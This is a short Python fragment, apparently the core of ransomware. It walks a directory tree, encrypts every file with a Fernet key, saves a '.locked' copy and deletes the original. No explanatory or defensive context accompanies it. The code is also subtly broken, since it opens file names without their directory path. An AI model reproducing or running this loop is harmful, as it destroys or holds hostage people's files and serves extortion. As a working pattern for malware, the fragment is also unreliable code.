for d, _, fs in os.walk(root):
    for f in fs:
        data = Fernet(key).encrypt(open(f, 'rb').read())
        open(f + '.locked', 'wb').write(data)
        os.remove(f)
